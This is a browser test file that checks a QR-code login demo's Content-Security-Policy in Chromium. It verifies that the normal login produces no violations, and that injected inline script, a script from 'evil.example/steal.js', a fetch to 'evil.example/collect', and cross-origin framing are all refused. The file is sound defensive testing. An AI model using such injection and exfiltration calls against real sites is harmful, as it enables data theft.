/**
 * The pages' Content-Security-Policy in a real Chromium: the demo login works
 * end to end with nothing refused, and what the policy exists for — inline
 * script, other origins, framing — is refused.
 */
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { desktopContext, launchChromium, phoneContext, readQr, waitForText } from '../support/chromium';
import { startTestServer, type TestServer } from '../support/server';

let browser: Browser;
let server: TestServer;
const contexts: BrowserContext[] = [];
beforeAll(async () => {
  browser = await launchChromium();
  server = await startTestServer({ env: { DEMO: '1', DEMO_FORCE: '1' } });
});
afterAll(async () => {
  await Promise.all(contexts.map((c) => c.close()));
  await browser?.close();
  await server?.close();
});

/** A page that records every CSP violation it meets (the recorder is injected by the browser driver, outside the policy). */
async function watchedPage(context: Promise<BrowserContext>, url: string): Promise<{ page: Page; violations: () => Promise<string[]> }> {
  const ctx = await context;
  contexts.push(ctx);
  const page = await ctx.newPage();
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  await page.goto(url);
  return { page, violations: () => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations) };
}

test('the demo login runs to "Welcome" without a single CSP violation on either page', async () => {
  const desktop = await watchedPage(desktopContext(browser), `${server.url}/`);
  await waitForText(desktop.page, '#status', 'Scan the code with your phone');
  await waitForText(desktop.page, '#channel', 'Live over WebSocket');
  const phone = await watchedPage(phoneContext(browser), await readQr(desktop.page));
  await phone.page.click('#users button[data-user="ana"]');
  await waitForText(desktop.page, '#status', 'Scanned by Ana — confirm on your phone');
  await desktop.page.waitForFunction(() => (document.getElementById('avatar') as HTMLImageElement).naturalWidth > 0);
  await phone.page.click('#confirm');
  await waitForText(desktop.page, '#status', 'Welcome, Ana');
  expect(await desktop.violations()).toEqual([]);
  expect(await phone.violations()).toEqual([]);
});

test('a login page opened at 127.0.0.1 while PUBLIC_URL says localhost shows the avatar from the phone page (a PUBLIC_URL image)', async () => {
  const named = await startTestServer({ env: { DEMO: '1', DEMO_FORCE: '1' }, publicHost: 'localhost' });
  try {
    const desktop = await watchedPage(desktopContext(browser), `${named.url}/`);
    await waitForText(desktop.page, '#status', 'Scan the code with your phone');
    const qr = await readQr(desktop.page);
    expect(new URL(qr).hostname).toBe('localhost');
    const phone = await watchedPage(phoneContext(browser), qr);
    await phone.page.click('#users button[data-user="ana"]');
    await waitForText(desktop.page, '#status', 'Scanned by Ana — confirm on your phone');
    const avatar = await desktop.page.waitForFunction(() => {
      const img = document.getElementById('avatar') as HTMLImageElement;
      return img.complete && img.src ? { src: img.src, width: img.naturalWidth } : false;
    });
    expect(await avatar.jsonValue()).toEqual({ src: expect.stringMatching(/^http:\/\/localhost:\d+\/assets\/avatar-ana\.svg$/), width: expect.any(Number) });
    expect((await avatar.jsonValue() as { width: number }).width).toBeGreaterThan(0);
    expect(await desktop.violations()).toEqual([]);
  } finally {
    await named.close();
  }
});

test('the policy refuses inline script, scripts and connections to other origins, and being framed', async () => {
  const { page, violations } = await watchedPage(desktopContext(browser), `${server.url}/`);
  await waitForText(page, '#status', 'Scan the code with your phone');
  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'window.inlineRan = true';
    document.body.append(inline);
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/steal.js';
    document.body.append(foreign);
    void fetch('https://evil.example/collect').catch(() => undefined);
  });
  await page.waitForFunction(() => (window as unknown as { cspViolations: string[] }).cspViolations.length >= 3);
  expect(await page.evaluate(() => (window as unknown as { inlineRan?: boolean }).inlineRan)).toBeUndefined();
  const seen = await violations();
  expect(seen).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src-elem (inline|https:\/\/evil\.example)/), expect.stringMatching(/^connect-src https:\/\/evil\.example/)]));

  // A page of another origin cannot frame the login (clickjacking the phone page's Confirm, say): the frame ends on Chromium's error page.
  const framer = await (await desktopContext(browser)).newPage();
  await framer.setContent(`<iframe src="${server.url}/m/login?id=x&code=y" onload="document.title = 'frame done'"></iframe>`);
  await framer.waitForFunction(() => document.title === 'frame done');
  const frame = framer.frames().find((f) => f !== framer.mainFrame());
  expect(frame?.url()).toMatch(/^chrome-error:/);
});
